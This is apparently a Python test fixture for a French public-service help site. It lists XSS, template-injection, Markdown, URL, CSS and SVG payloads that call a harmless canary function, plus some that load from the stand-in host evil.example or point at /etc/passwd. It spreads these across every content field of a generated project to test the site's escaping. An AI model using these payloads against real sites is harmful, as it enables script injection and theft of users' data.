"""Text that tries to run: one list for every field, and a project that holds each of them in each field.

`canary` is what a payload calls; a test gives it, and alert, confirm, prompt and print, a body that remembers.
"""

from __future__ import annotations

from typing import Any

import yaml

from tiny_project import FILES

MARKUP = [
    "<script>canary()</script>", "<SCRIPT SRC=/x.js></SCRIPT>", "<script/x>canary()</script>", "<scr<script>ipt>canary()</script>",
    "<img src=x onerror=canary()>", "<IMG SRC=x OnErRoR=canary()>", "<img/src=x/onerror=canary()>", "<img src=`x`onerror=canary()>",
    "<svg onload=canary()>", "<svg/onload=canary()//", "<svg><script>canary()</script></svg>", "<svg><animate onbegin=canary() attributeName=x>",
    "<svg><a xlink:href=javascript:canary()><text y=20>x</text></a>", "<svg><use href='data:image/svg+xml,<svg id=x onload=canary()>#x'>",
    "<svg><set attributeName=onmouseover to=canary()>", "<svg><foreignObject><iframe srcdoc='<script>parent.canary()</script>'>",
    "<math><mtext><img src=x onerror=canary()></math>", "<math><a href=javascript:canary()>x", "<iframe srcdoc='<script>top.canary()</script>'>",
    "<iframe src=javascript:parent.canary()>", "<object data=javascript:canary()>", "<embed src=javascript:canary()>",
    "<body onload=canary()>", "<input autofocus onfocus=canary()>", "<details open ontoggle=canary()>", "<video><source onerror=canary()>",
    "<audio src=x onerror=canary()>", "<marquee onstart=canary()>", "<form action=javascript:canary()><button>x", "<button formaction=javascript:canary()>x",
    "<a href=javascript:canary()>x</a>", "<a href='&#106;avascript:canary()'>x</a>",
    "<a href=data:text/html,<script>canary()</script>>x</a>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x>", "<link rel=import href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=javascript:canary()'>", "<style>@import '//evil.example/x'</style>", "<p style='background:url(//evil.example/x)'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>", "<template><script>canary()</script></template>", "<xmp><p title='</xmp><img src=x onerror=canary()>'>",
    "<!--><img src=x onerror=canary()>-->", "<![CDATA[<img src=x onerror=canary()>]]>", "<?x <img src=x onerror=canary()>?>", "</title><img src=x onerror=canary()>",
    "</textarea><img src=x onerror=canary()>", "</style><img src=x onerror=canary()>", "</script><img src=x onerror=canary()>", "</noscript><img src=x onerror=canary()>",
    "\"><img src=x onerror=canary()>", "'><img src=x onerror=canary()>", "\" onmouseover=canary() x=\"", "' onmouseover=canary() x='", "` onmouseover=canary() x=`", "\" autofocus onfocus=canary() x=\"",
    "＜script＞canary()＜/script＞", "&lt;img src=x onerror=canary()&gt;", "&amp;lt;script&amp;gt;canary()", "%3Cscript%3Ecanary()%3C/script%3E", "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
    "<isindex action=javascript:canary()>", "<keygen autofocus onfocus=canary()>", "<select autofocus onfocus=canary()>", "<svg><discard onbegin=canary()>", "<dialog open onclose=canary()>", "<p popover onbeforetoggle=canary()>x",
    "<a href=https://a.fr ping=//evil.example>x</a>", "<a href=https://a.fr target=_top onclick=canary()>x</a>", "<p id=co-search>x</p>", "<p class=co-exit data-exit>x</p>", "<img name=communAssets src=x>", "<form id=commun><input name=parentNode>",
]  # fmt: skip
"""HTML in text: elements, attributes broken out of, elements closed, doubled and hidden escapes."""

SCRIPT = [
    "';canary();//", "\";canary();//", "`;canary();//", "${canary()}", "\\';canary();//", "</script><script>canary()</script>", "*/canary()/*", "]]>canary()", "-canary()-",
    "{{ canary() }}", "{{ ''.__class__.__mro__ }}", "{% import 'os' as os %}", "{# x #}", "<%= canary() %>", "#{canary()}", "{{constructor.constructor('canary()')()}}", "__proto__", "constructor", "<!--<script>",
]  # fmt: skip
"""Text that would end a string of a script, or that a template would read."""

MARKDOWN = [
    "[x](javascript:canary())", "[x](JaVaScRiPt:canary())", "[x](java&#115;cript:canary())", "[x](javascript&colon;canary())", "[x](&#x6A;avascript:canary())",
    "[x](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==)", "[x](vbscript:canary())", "[x](//evil.example)", "[x](https://a.fr/\"onmouseover=\"canary())", "[x](https://a.fr 'x\" onmouseover=\"canary()')",
    "![x](x\"onerror=\"canary())", "![x](javascript:canary())", "![<img src=x onerror=canary()>](x)", "<javascript:canary()>", "<https://a.fr/<script>canary()</script>>", "[x]: javascript:canary()\n\n[x]",
    "[x][y]\n\n[y]: data:text/html,<script>canary()</script>", "`<img src=x onerror=canary()>`", "```\n<script>canary()</script>\n```", "<div>\n\n**x**<img src=x onerror=canary()>\n\n</div>", "# <svg onload=canary()>",
    "**<img src=x onerror=canary()>**", "[<img src=x onerror=canary()>](https://a.fr)", "<a href=\"https://a.fr\" onclick=\"canary()\">x</a>", "| a |\n|---|\n| <svg onload=canary()> |", "[a](https://a.fr?x=<script>canary()</script>)",
    "&lt;script&gt;canary()&lt;/script&gt;", "\\<script>canary()\\</script>", "<p>x</p onmouseover=canary()>",
]  # fmt: skip
"""Markdown whose links, titles, code or raw HTML would run."""

URLS = [
    "javascript:canary()", "JAVASCRIPT:canary()", " javascript:canary()", "java\tscript:canary()", "java\nscript:canary()", "\x01javascript:canary()", "javascript://a.fr/%0acanary()", "https:javascript:canary()", "data:text/html,<script>canary()</script>",
    "data:image/svg+xml,<svg onload=canary()>", "vbscript:canary()", "blob:https://a.fr/x", "file:///etc/passwd", "//evil.example/", "/\\evil.example", "https://", "https://a.fr/\" onmouseover=\"canary()", "https://a.fr/'><script>canary()</script>",
    "https://a.fr/<svg onload=canary()>", "https://a.fr@evil.example/", "https://javascript:canary()@a.fr/", "https://a.fr/#javascript:canary()", "https://a.fr/?x=</script><script>canary()</script>", "view-source:https://a.fr", "filesystem:https://a.fr/x", "intent://x#Intent;end",
]  # fmt: skip
"""Addresses: schemes that run, disguised schemes, and breaks out of an attribute."""

MAILS = ["a@b.fr\" onmouseover=\"canary()", "javascript:canary()@b.fr", "a@b.fr?bcc=<script>canary()</script>", "<svg/onload=canary()>@b.fr", "a@b.fr'><img/src=x/onerror=canary()>", "a@b.fr,javascript:canary()"]  # fmt: skip
PHONES = ["javascript:canary()", "01\" onclick=\"canary()", "01 99 00 00 01<script>canary()</script>", "tel:0199;canary()", "+33javascript:1", "0199000001;ext=<svg onload=canary()>"]  # fmt: skip
COLOURS = [
    "red;}</style><script>canary()</script>", "#fff}body{background:url(//evil.example)}", "expression(canary())", "url(javascript:canary())", "#12345", "#0b4f7a;color:red", "var(--x)", "</style><svg onload=canary()>", "#0b4f7a/*", "rgb(0,0,0)", "javascript:canary()", "#GGGGGG", "-moz-binding:url(x)",
]  # fmt: skip
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">'
DRAWINGS = [
    f"{SVG}<script>canary()</script></svg>", f'{SVG}<path d="M0 0" onclick="canary()"/></svg>', f'{SVG[:-1]} onload="canary()"><path d="M0 0"/></svg>', f'{SVG}<a href="javascript:canary()"><path d="M0 0h9v9z"/></a></svg>',
    f'{SVG}<a xlink:href="javascript:canary()"><path d="M0 0h9v9z"/></a></svg>', f'{SVG}<image href="x" onerror="canary()"/></svg>', f"{SVG}<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='x'/></foreignObject></svg>",
    f'{SVG}<use href="data:image/svg+xml,x#y"/></svg>', f'{SVG}<animate onbegin="canary()" attributeName="x" dur="1s"/></svg>', f'{SVG}<set attributeName="onmouseover" to="canary()"/></svg>', f"{SVG}<style>@import url(//evil.example)</style></svg>",
    f'{SVG}<path d="M0 0" style="background:url(//evil.example)"/></svg>', f'{SVG}<path d="M0 0" fill="url(javascript:canary())"/></svg>', f'<!DOCTYPE svg [<!ENTITY x "canary()">]>{SVG}<title>&x;</title></svg>', f'<?xml-stylesheet href="x.xsl"?>{SVG}<path d="M0 0"/></svg>',
    f'{SVG}<h:script xmlns:h="http://www.w3.org/1999/xhtml">canary()</h:script></svg>', f"{SVG}<title>&lt;script>canary()&lt;/script></title><path d='M0 0h9v9z'/></svg>", f"{SVG}<desc><![CDATA[<script>canary()</script>]]></desc><path d='M0 0h9v9z'/></svg>", f'{SVG}<path d="M0 0&quot; onload=&quot;canary()"/></svg>',
    "<html><script>canary()</script></html>", "GIF89a/*<svg/onload=canary()>*/",
]  # fmt: skip
SEARCHES = [
    *MARKUP[:12],
    *SCRIPT[:6],
    "constructor",
    "__proto__",
    "toString",
    "a" * 3000,
    "\x00",
    "\u202e",
    "[(\\",
    "%00%0a",
]
HIDDEN = [
    "<a href=\x01javascript:canary()>x</a>",
    "[x](\x01javascript:canary())",
    "\u2028canary()//",
    "x\u202ecanary()",
]
"""Characters that hide what they do: refused in any file."""
TEXTS = [*MARKUP, *SCRIPT, *MARKDOWN]


def project() -> dict[str, str]:
    """Return the files of a project: each text of the list stands once in every field, in the order of the list."""
    size = len(TEXTS)
    turns = iter(range(10**9))

    def text(index: int, room: int = 300) -> str:
        """The next text of the list that there is room for; each field begins at another place of the list."""
        shift = next(turns) * 7
        return next(
            found
            for step in range(size)
            for found in ["x " + TEXTS[(index + shift + step) % size]]
            if len(found) < room
        )

    outcomes: dict[str, Any] = {}
    answers, contacts, needs, emergency = {}, [], [], []
    for index in range(size):
        outcomes[f"o{index}"] = {
            "title": text(index), "text": text(index), "steps": [text(index), text(index)], "prepare": [text(index)],
            "tell": text(index), "tell_for": {"proche": text(index)}, "contacts": [f"c{index}", "allo-national"], "cost": text(index),
            "after": text(index), "recourse": text(index), "deadline": text(index),
            "procedures": [{"title": text(index, 110), "url": "https://a.fr"}],
        }  # fmt: skip
        answers[f"a{index}"] = {"text": text(index), "hint": text(index), "next": f"o{index}"}
        contacts.append({
            "id": f"c{index}", "name": text(index, 110), "role": text(index), "languages": text(index), "reply_within": text(index), "source": text(index),
            "phone": [{"number": "01 99 00 00 01", "label": text(index, 110), "cost": text(index, 110)}],
            "desk": {"address": text(index), "appointment": text(index), "access": text(index)},
            "mail": [{"address": "a@b.fr", "label": text(index, 110)}], "online": [{"url": "https://a.fr", "title": text(index, 110)}],
            "closures": [{"from": "01/01/2026", "to": "31/12/2029", "text": text(index)}],
        })  # fmt: skip
        needs.append({
            "id": f"n{index}", "title": text(index), "official": text(index), "services": ["fsl"], "words": [text(index), f"essai {index}"],
            "deadline": text(index), "next": f"logement/o{index}",
        })  # fmt: skip
        emergency.append({
            "id": f"l{index}", "number": "17", "label": text(index, 110), "when": text(index), "note": text(index), "hours": "24h/24",
            "source": text(index), "verified_on": "22/11/2026",
        })  # fmt: skip
    questions = {
        f"q{start}": {"ask": text(start), "help": text(start), "answers": dict([*answers.items()][start : start + 12])}
        for start in range(0, size, 12)
    }
    for start in range(0, size - 12, 12):
        questions[f"q{start}"]["answers"]["suite"] = {"text": text(start), "next": f"logement/q{start + 12}"}
    journey = {"title": text(1, 110), "start": "q0", "questions": questions, "outcomes": outcomes}
    entries = [
        {"id": f"e{index}", "title": text(index, 110), "intro": text(index), "topics": ["logement"]}
        for index in range(size)
    ]
    alerts = [
        {"id": f"w{index}", "text": text(index), "from": "01/01/2026", "to": "31/12/2029"} for index in range(size)
    ]
    partner = yaml.safe_load(FILES["partners/var/partner.yaml"])
    partner |= {field: text(3, 110) for field in ("name", "publisher", "dpo", "host", "referent", "pilot_service")}
    branding = {"colours": {"primary": "#0b4f7a", "accent": "#a8431a"}, "logo": "assets/logo.svg", "logo_alt": text(5)}
    topics = [{"id": "logement", "title": text(2, 110), "hint": text(2)}]
    page = f"# {TEXTS[4]}\n\n" + "\n\n".join(TEXTS)
    files: dict[str, Any] = {
        "content/topics.yaml": {"topics": topics},
        "content/needs/logement.yaml": {"needs": needs},
        "content/journeys/logement.yaml": journey,
        "content/journeys/prive.yaml": {
            **journey,
            "sensitive": "oui",
            "questions": {"q0": questions["q0"]},
            "outcomes": dict([*outcomes.items()][:24]),
        },
        "content/emergency.yaml": {"lines": emergency},
        "partners/var/partner.yaml": partner,
        "partners/var/branding.yaml": branding,
        "content/contacts/hostiles.yaml": {"contacts": contacts},
        "partners/var/journeys/logement.yaml": {"outcomes": {"o0": {"title": text(0), "text": text(0)}}},
        "partners/var/entries.yaml": {"entries": entries},
        "partners/var/alerts.yaml": {"alerts": alerts},
    }
    written = {
        path: yaml.safe_dump(value, allow_unicode=True, sort_keys=False, width=9999) for path, value in files.items()
    }
    pages = {path: page for path in FILES if path.startswith("content/pages/")}
    return {**written, **pages, "partners/var/assets/logo.svg": f'{SVG}<path d="M0 0h9v9z"/></svg>'}
